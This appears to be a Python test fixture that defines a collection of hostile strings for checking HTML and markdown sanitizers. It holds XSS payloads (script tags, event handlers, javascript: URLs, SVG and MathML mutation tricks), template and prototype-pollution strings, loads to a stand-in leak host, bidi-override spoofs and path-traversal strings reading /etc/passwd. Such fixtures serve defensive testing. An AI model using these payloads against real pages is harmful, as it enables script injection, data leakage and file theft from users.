"""Strings that would do harm on a page that took them for more than text. Those that can call `owned()`."""

_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerdown")
_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe src=x", "math")
_SCHEMES = ("javascript:", "JaVaScRiPt:", " javascript:", "java&#9;script:", "data:text/html,<script>", "vbscript:")
_ELSEWHERE = "https://elsewhere.example/leak"

_SCRIPTS = (
    "<script>owned()</script>",
    "<ScRiPt>owned()</sCrIpT>",
    "<script src=https://elsewhere.example/x.js></script>",
    "<script type=module>owned()</script>",
    "</title><script>owned()</script>",
    "</textarea><script>owned()</script>",
    "</style><script>owned()</script>",
    "--><script>owned()</script><!--",
    "]]><script>owned()</script>",
    "<<script>owned();//<</script>",
    "<scr<script>ipt>owned()</scr</script>ipt>",
    "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
    "&lt;script&gt;owned()&lt;/script&gt;",
    "%3Cscript%3Eowned()%3C/script%3E",
    "<noscript><p title='</noscript><script>owned()</script>'>",
    "<template><script>owned()</script></template>",
)
_QUOTES = (
    '" onfocus=owned() autofocus x="',
    "' onfocus='owned()' autofocus x='",
    "` onfocus=owned() `",
    '"><img src=x onerror=owned()>',
    "'><svg onload=owned()>",
    "');owned();//",
    '";owned();//',
    "${owned()}",
    "{{constructor.constructor('owned()')()}}",
    "<%= owned() %>",
    "#{owned()}",
    "__proto__",
    "constructor",
)
_SVG = (
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:owned()'><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=owned()>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=owned()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned()></style></mglyph></table></mtext></math>",
)
_LOADS = (
    f"<img src={_ELSEWHERE}>",
    f"<link rel=stylesheet href={_ELSEWHERE}>",
    f"<link rel=prefetch href={_ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<base href={_ELSEWHERE}>",
    f"<form action={_ELSEWHERE}><button autofocus>go</button></form>",
    f"<object data={_ELSEWHERE}></object>",
    f"<embed src={_ELSEWHERE}>",
    f"<style>@import '{_ELSEWHERE}';</style>",
    f'<div style="background:url({_ELSEWHERE})">x</div>',
    f"<a href={_ELSEWHERE} ping={_ELSEWHERE}>x</a>",
    f"<portal src={_ELSEWHERE}></portal>",
)
_MARKDOWN = (
    "[x](javascript:owned())",
    f"![x]({_ELSEWHERE})",
    f"[x]({_ELSEWHERE} 'x')",
    f"<{_ELSEWHERE}>",
    f"[x]: {_ELSEWHERE}",
    '![x](x"onerror="owned())',
    "```html <script>owned()</script> ```",
    f"[![x]({_ELSEWHERE})]({_ELSEWHERE})",
)
_BIDI = (
    "\u202etxt.exe gnp.cod",
    "\u202dleft\u202e thgir \u202c",
    "\u2066isolated \u2067and never closed",
    "\u2069\u2069\u2069 closed and never opened",
    "\u200f\u200e\u061cmarks",
    "\u202e<script>owned()</script>",
)
_SHAPES = (
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́",
    "\ufeff\u200b\u200d\u2060 nothing",
    "👩‍👩‍👧‍👦🏳️‍🌈🇭🇺 <b>bold</b>",
    "W" * 400,
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "a?collection=other#char=0,5&q=x",
)

HOSTILE = (
    *_SCRIPTS,
    *(f"<{tag} {handler}=owned()>" for tag, handler in zip(_TAGS, _HANDLERS, strict=True)),
    *(f"<{tag} {handler}='owned()'>x" for tag, handler in zip(_TAGS, reversed(_HANDLERS), strict=True)),
    *(f"<{tag}/{handler}=owned()//" for tag, handler in zip(_TAGS[:6], _HANDLERS[2:], strict=True)),
    *(f"<a href='{scheme}owned()'>x</a>" for scheme in _SCHEMES),
    *(f"{scheme}owned()" for scheme in _SCHEMES),
    *_QUOTES,
    *_SVG,
    *_LOADS,
    *_MARKDOWN,
    *_BIDI,
    *_SHAPES,
)
